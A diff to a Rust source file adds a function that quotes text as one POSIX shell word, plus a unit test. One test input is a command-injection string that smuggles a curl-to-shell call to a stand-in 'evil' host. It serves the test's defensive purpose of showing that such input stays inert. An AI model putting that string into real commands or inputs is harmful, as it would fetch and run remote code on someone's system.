@@ -19,6 +19,15 @@ pub(crate) fn shown_message(text: &str) -> Cow<'_, str> {
     cut(text, MAX_MESSAGE_BYTES)
 }
 
+/// A text as one word of a POSIX shell, for a command that people copy: quoted, unless it has plain characters only.
+pub(crate) fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~/:@%+=,".contains(&byte);
+    if !text.is_empty() && text.bytes().all(is_plain) {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
+}
+
 fn cut(text: &str, max_bytes: usize) -> Cow<'_, str> {
     // Escaping may lengthen a text, and an escape must not be cut.
     let mut left = max_bytes;
@@ -92,6 +101,18 @@ pub(crate) fn decode(bytes: &[u8]) -> Result<Cow<'_, str>, NotText> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn shell_word_is_one_word_whatever_is_in_it() {
+        for (text, expected) in [
+            ("https://idp.example.com:8443/a", "https://idp.example.com:8443/a"),
+            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
+            ("it's", r"'it'\''s'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell_word(text), expected);
+        }
+    }
 
     #[test]
     fn shown_is_one_line_without_active_characters_and_about_a_kilobyte() {
